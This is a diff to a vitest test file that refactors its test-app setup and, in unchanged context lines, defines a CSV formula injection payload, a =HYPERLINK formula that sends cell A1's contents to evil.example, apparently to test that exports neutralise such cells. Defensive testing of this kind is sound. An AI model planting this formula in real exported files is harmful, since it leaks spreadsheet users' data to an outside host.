@@ -1,14 +1,10 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { responses } from '../../src/server/db/schema';
+import { describe, expect, it } from 'vitest';
+import { responses } from '../../src/server/platform/db/schema';
 import { csvRecords } from '../helpers/csv';
 import { firstQuestionOfType } from '../helpers/seed-answers';
-import { createTestApp, type TestApp } from '../helpers/test-app';
+import { useTestApp } from '../helpers/test-app';
 
-let t: TestApp;
-beforeAll(async () => {
-  t = await createTestApp();
-});
-afterAll(() => t.close());
+const t = useTestApp();
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")';
 /** Each starts a cell that a spreadsheet would run as a formula (OWASP CSV injection). */
